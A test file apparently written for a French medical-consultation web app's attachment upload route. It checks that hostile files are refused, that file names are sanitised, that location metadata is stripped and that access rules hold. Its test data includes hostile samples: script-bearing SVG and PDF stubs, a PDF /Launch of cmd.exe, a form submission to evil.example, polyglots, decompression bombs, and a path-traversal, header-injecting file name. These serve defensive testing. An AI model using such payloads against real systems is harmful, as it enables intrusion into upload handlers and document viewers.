import { runDurableObjectAlarm, runInDurableObject } from 'cloudflare:test'
import { env, exports } from 'cloudflare:workers'
import { deflateSync } from 'node:zlib'
import { beforeAll, describe, expect, test } from 'vitest'
import { sha256 } from '../../workers/http/digest.ts'
import * as files from '../support/hostileFiles.ts'
import { aDoctor, anOpenRoom, asDoctor, aWaitingRoom, MARIE } from '../support/rooms.ts'

const { bytesOf, join, chunk, segment, JPEG, PNG, PDF } = files
const ORIGIN = 'http://localhost:8787'
const ANNA = aDoctor('anna')

async function signIn(name: string, role: 'member' | 'doctor'): Promise<string> {
  const token = `token-of-${name}`
  await env.DB.batch([
    env.DB.prepare("INSERT INTO accounts (id, email, role, locale, created_at) VALUES (?, ?, ?, 'fr', 0)").bind(
      name,
      `${name}@example.org`,
      role,
    ),
    env.DB.prepare('INSERT INTO sessions (token_sha256, account_id, created_at, expires_at) VALUES (?, ?, 0, ?)').bind(
      await sha256(token),
      name,
      Date.now() + 3_600_000,
    ),
  ])
  return `__Host-session=${token}`
}

let marie = ''
let anna = ''
let eve = ''
let intake = ''
beforeAll(async () => {
  marie = await signIn('marie', 'member')
  eve = await signIn('eve', 'member')
  anna = await signIn('anna', 'doctor')
  intake = (await anOpenRoom()).id.toString()
})

const call = (method: string, cookie: string, path: string, body?: BodyInit, headers: Record<string, string> = {}) =>
  exports.default.fetch(`${ORIGIN}/api/consultations/${path}`, {
    method,
    headers: { cookie, origin: ORIGIN, 'accept-language': 'fr', ...headers },
    ...(body === undefined ? {} : { body }),
  })

/** As browsers write a form (HTML, multipart/form-data): quotes and line ends of a name are escaped. */
function upload(cookie: string, id: string, bytes: Uint8Array<ArrayBuffer>, name = 'photo.jpg') {
  const escaped = name.replace(/"/g, '%22').replace(/\r/g, '%0D').replace(/\n/g, '%0A')
  const head = `--x\r\nContent-Disposition: form-data; name="file"; filename="${escaped}"\r\nContent-Type: image/jpeg\r\n\r\n`
  const form = new Blob([head, bytes, '\r\n--x--\r\n'])
  return call('POST', cookie, `${id}/attachments`, form, { 'content-type': 'multipart/form-data; boundary=x' })
}

async function aConsultation() {
  const room = await aWaitingRoom()
  await room.perform(asDoctor(ANNA), { type: 'take', doctor: ANNA, patientHere: false })
  return { room, id: room.id.toString() }
}

const packed = (text: string) => new Uint8Array(deflateSync(bytesOf(text)))
const flipped = (bytes: Uint8Array<ArrayBuffer>, at: number) =>
  bytes.map((byte, index) => (index === at ? byte ^ 1 : byte))

const UNKNOWN = /ni une image/
const CUT_SHORT = /incomplet/
const FOREIGN = /autre chose que/
const DAMAGED = /abîmé/
const TOO_LARGE_A_PICTURE = /trop grande/
const BOMB = /plus gros/
const RUNS = /programme ou un autre fichier/
const LOCKED = /mot de passe/

const HOSTILE: [what: string, bytes: Uint8Array<ArrayBuffer>, status: number, says: RegExp][] = [
  ['an empty file', new Uint8Array(), 415, UNKNOWN],
  ['a program named photo.jpg', bytesOf('MZ\x90\x00 not a picture'), 415, UNKNOWN],
  ['a page named photo.jpg', bytesOf('<html><script>alert(1)</script>'), 415, UNKNOWN],
  [
    'a drawing that can run (svg)',
    bytesOf('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    415,
    UNKNOWN,
  ],
  ['a zip', bytesOf('PK\x03\x04'), 415, UNKNOWN],
  ['a gif that is also a script', bytesOf('GIF89a/*'), 415, UNKNOWN],
  ['a photo as HEIC, unconverted', bytesOf('\0\0\0\x18ftypheic\0\0\0\0'), 415, UNKNOWN],
  ['an archive before a pdf', join(bytesOf('PK\x03\x04'), PDF), 415, UNKNOWN],
  ['a jpeg cut in the middle of its pixels', JPEG.slice(0, -4), 415, CUT_SHORT],
  ['a jpeg cut in its header', JPEG.slice(0, 7), 415, CUT_SHORT],
  ['a png cut before its end', PNG.slice(0, -12), 415, CUT_SHORT],
  ['a pdf cut in the middle', PDF.slice(0, 40), 415, CUT_SHORT],
  ['a png with a changed pixel', flipped(PNG, 45), 415, DAMAGED],
  ['a png with a private chunk that must be obeyed', files.pngWith(chunk('EVIL')), 415, DAMAGED],
  ['a jpeg of no height', files.jpegOf(8, 0), 415, DAMAGED],
  ['a jpeg of two frames', join(JPEG.slice(0, -2), JPEG.slice(2)), 415, DAMAGED],
  ['a pdf whose references are elsewhere', bytesOf('%PDF-1.7\nstartxref\n3\n%%EOF\n'), 415, DAMAGED],
  ['a jpeg with an archive behind it', join(JPEG, bytesOf('PK\x03\x04')), 415, FOREIGN],
  ['a jpeg with a page behind zeros', join(JPEG, new Uint8Array(9), bytesOf('<script>')), 415, FOREIGN],
  ['a png with a program behind it', join(PNG, bytesOf('MZ')), 415, FOREIGN],
  ['a pdf with an archive behind it', join(PDF, bytesOf('PK\x03\x04')), 415, FOREIGN],
  [
    'a png that unpacks into 4 gigapixels',
    join(files.PNG_START, files.pngHeader(65_535, 65_535), files.PNG_PIXELS, files.PNG_END),
    415,
    TOO_LARGE_A_PICTURE,
  ],
  ['a jpeg of 4 gigapixels', files.jpegOf(65_535, 65_535), 415, TOO_LARGE_A_PICTURE],
  ['a jpeg of a thousand scans', files.jpegOf(8000, 8000, 1000), 415, BOMB],
  ['a pdf with a script', files.pdfOf('<< /S /JavaScript /JS (app.alert(1)) >>'), 415, RUNS],
  ['a pdf with a script in disguise', files.pdfOf('<< /S /J#61vaScr#69pt >>'), 415, RUNS],
  ['a pdf that starts a program', files.pdfOf('<< /S/Launch/F(cmd.exe) >>'), 415, RUNS],
  ['a pdf that carries a file', files.pdfOf('<< /Type /EmbeddedFile >>'), 415, RUNS],
  ['a pdf that sends a form away', files.pdfOf('<< /S /SubmitForm /F (https://evil.example) >>'), 415, RUNS],
  ['a pdf with an XFA form', files.pdfOf('<< /AcroForm << /XFA [] >> >>'), 415, RUNS],
  ['a pdf whose script is compressed', files.pdfWithObjects(packed('1 0 << /S /JavaScript >>')), 415, RUNS],
  ['a pdf whose program is compressed', files.pdfWithObjects(packed('1 0 << /S /Launch >>')), 415, RUNS],
  ['a pdf whose objects unpack without end', files.pdfWithObjects(packed(' '.repeat(40_000_000))), 415, BOMB],
  [
    'a pdf whose objects are packed so that nobody looks',
    files.pdfWithObjects(bytesOf('789c'), '/Filter [/ASCIIHexDecode /FlateDecode]'),
    415,
    DAMAGED,
  ],
  ['a pdf whose objects are broken', files.pdfWithObjects(bytesOf('not deflate')), 415, DAMAGED],
  ['an encrypted pdf', files.pdfOf('<< /Encrypt 2 0 R >>'), 415, LOCKED],
]

describe('hostile files are refused by the real route, each with its reason', () => {
  test('there are at least 25', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(25))
  test.each(HOSTILE)('%s', async (_, bytes, status, says) => {
    const answer = await upload(marie, intake, bytes)
    expect(answer.status).toBe(status)
    expect(await answer.json()).toMatchObject({
      type: expect.stringMatching(/attachment-type$/),
      detail: expect.stringMatching(says),
    })
  })
  test('one byte over the limit is 413, whatever it is', async () => {
    const answer = await upload(marie, intake, new Uint8Array(10 * 1024 * 1024 + 1))
    expect(answer.status).toBe(413)
    expect(await answer.json()).toMatchObject({ type: expect.stringMatching(/attachment-too-large$/) })
  })
  test('a body that never ends is cut off: 413', async () => {
    let sent = 0
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        sent++
        if (sent > 400) controller.close()
        else controller.enqueue(new Uint8Array(65_536))
      },
    })
    const type = { 'content-type': 'multipart/form-data; boundary=x' }
    expect((await call('POST', marie, `${intake}/attachments`, endless, type)).status).toBe(413)
    expect(sent).toBeLessThan(400)
  })
  test('what is not a multipart form, or has no file, is refused', async () => {
    expect(
      (await call('POST', marie, `${intake}/attachments`, '{}', { 'content-type': 'application/json' })).status,
    ).toBe(415)
    const form = new FormData()
    form.append('file', 'only text')
    expect((await call('POST', marie, `${intake}/attachments`, form)).status).toBe(400)
  })
  test('a name that climbs, lies or breaks a header comes back harmless', async () => {
    const answer = await upload(marie, intake, PNG, '../../etc/\u202Egpj.exe"\r\nX-Evil: 1')
    expect(answer.status).toBe(201)
    const { id, name } = await answer.json<{ id: string; name: string }>()
    expect(name).toMatch(/^[^/\\\u202e"\r\n]+\.png$/)
    const bytes = await call('GET', marie, `${intake}/attachments/${id}`)
    expect(bytes.headers.get('x-evil')).toBeNull()
    expect(bytes.headers.get('content-disposition')).toMatch(/^inline; filename="[^"]+"; filename\*=UTF-8''\S+$/)
    await bytes.arrayBuffer()
  })
})

test('what is stored and served has no place and no phone in it, and keeps its turn', async () => {
  const { id } = await (await upload(marie, intake, files.jpegOf(8, 8, 1, segment(0xe1, files.exif(6))))).json<{
    id: string
  }>()
  const answer = await call('GET', marie, `${intake}/attachments/${id}`)
  const bytes = new Uint8Array(await answer.arrayBuffer())
  const text = String.fromCharCode(...bytes)
  expect(text).not.toMatch(/GPS|Phone/)
  expect(text).toContain('Exif\0\0MM')
  expect(Object.fromEntries(answer.headers)).toMatchObject({
    'content-type': 'image/jpeg',
    'x-content-type-options': 'nosniff',
    'content-security-policy': expect.stringMatching(/^sandbox; default-src 'none'/),
    'cross-origin-resource-policy': 'same-origin',
    'cache-control': 'private, no-store',
    'content-length': String(bytes.length),
  })
  const download = await call('GET', marie, `${intake}/attachments/${id}?download`)
  expect(download.headers.get('content-disposition')).toMatch(/^attachment; /)
  await download.arrayBuffer()
})

const sendFile = (cookie: string, id: string, key: string, attachmentId: string) =>
  call('POST', cookie, `${id}/messages`, JSON.stringify({ key, attachmentId }), { 'content-type': 'application/json' })

test('in the thread both sides upload, see each other’s file once it was sent, and nobody else does', async () => {
  const { id } = await aConsultation()
  const file = await (await upload(anna, id, PDF, 'conseils.pdf')).json<{ id: string }>()
  const path = `${id}/attachments/${file.id}`
  expect((await call('GET', marie, path)).status).toBe(404)
  // What one side uploaded, the other can't say.
  expect((await sendFile(marie, id, 'm', file.id)).status).toBe(404)
  const first = await sendFile(anna, id, 'k', file.id)
  const again = await sendFile(anna, id, 'k', file.id)
  expect([first.status, again.status]).toEqual([201, 200])
  expect(await again.json()).toEqual(await first.json())
  const seen = await call('GET', marie, path)
  expect([seen.status, seen.headers.get('content-disposition')]).toEqual([200, expect.stringMatching(/^attachment; /)])
  await seen.arrayBuffer()
  expect((await call('GET', eve, path)).status).toBe(404)
  const reads = await env.DB.prepare('SELECT account_id, action, patient_id FROM audit WHERE consultation_id = ?').bind(
    id,
  )
  const { results } = await reads.all()
  // Marie’s first try found nothing, and Eve’s never will.
  expect(results).toEqual([
    { account_id: 'marie', action: 'consultation.read-attachment', patient_id: expect.any(String) },
  ])
  expect((await upload(eve, id, PNG)).status).toBe(404)
  expect((await upload(marie, id, PNG)).status).toBe(201)
})

test('before the question was taken and after the end, no file comes into the thread', async () => {
  const waiting = await aWaitingRoom()
  expect((await upload(marie, waiting.id.toString(), PNG)).status).toBe(409)
  expect((await upload(anna, waiting.id.toString(), PNG)).status).toBe(404)
  const { room, id } = await aConsultation()
  const late = await (await upload(marie, id, PNG)).json<{ id: string }>()
  await room.say(MARIE, { key: 'here', text: 'Bonjour' })
  await room.perform(asDoctor(ANNA), { type: 'end', patientHere: true })
  expect((await upload(marie, id, PNG)).status).toBe(409)
  expect((await sendFile(marie, id, 'k', late.id)).status).toBe(409)
})

test('a file that was uploaded and never sent is swept with its bytes; one that was sent stays', async () => {
  const { room, id } = await aConsultation()
  const forgotten = await (await upload(marie, id, PNG)).json<{ id: string }>()
  const sent = await (await upload(marie, id, PNG)).json<{ id: string }>()
  await sendFile(marie, id, 'k', sent.id)
  await runInDurableObject(room, (_instance, { storage }) => {
    storage.sql.exec('UPDATE uploads SET at = 1')
  })
  await runDurableObjectAlarm(room)
  expect(await env.FILES.head(`attachments/${id}/${forgotten.id}`)).toBeNull()
  expect(await env.FILES.head(`attachments/${id}/${sent.id}`)).not.toBeNull()
  expect((await sendFile(marie, id, 'k2', forgotten.id)).status).toBe(404)
})

test('a file that its sender gives up before sending it leaves at once; one that was sent stays', async () => {
  const { room, id } = await aConsultation()
  const { id: given } = await (await upload(anna, id, PNG)).json<{ id: string }>()
  expect((await call('DELETE', marie, `${id}/attachments/${given}`)).status).not.toBe(204)
  expect((await call('DELETE', anna, `${id}/attachments/${given}`)).status).toBe(204)
  await runDurableObjectAlarm(room)
  expect(await env.FILES.head(`attachments/${id}/${given}`)).toBeNull()
  const { id: sent } = await (await upload(anna, id, PNG)).json<{ id: string }>()
  await sendFile(anna, id, 'k', sent)
  expect((await call('DELETE', anna, `${id}/attachments/${sent}`)).status).not.toBe(204)
  expect((await call('GET', marie, `${id}/attachments/${sent}`)).headers.get('content-type')).toBe('image/png')
})

test('the thread has a limit of its own, which the question’s files do not count in', async () => {
  const { room, id } = await aConsultation()
  await runInDurableObject(room, (_instance, { storage }) => {
    for (let file = 0; file < 49; file++)
      storage.sql.exec("INSERT INTO uploads (id, party, at, facts, sent) VALUES (?, 'patient', 1, '{}', 1)", `f${file}`)
  })
  expect((await upload(marie, id, PNG)).status).toBe(201)
  const full = await upload(anna, id, PNG)
  expect(full.status).toBe(409)
  expect(await full.json()).toMatchObject({ type: expect.stringMatching(/too-many-attachments$/) })
})
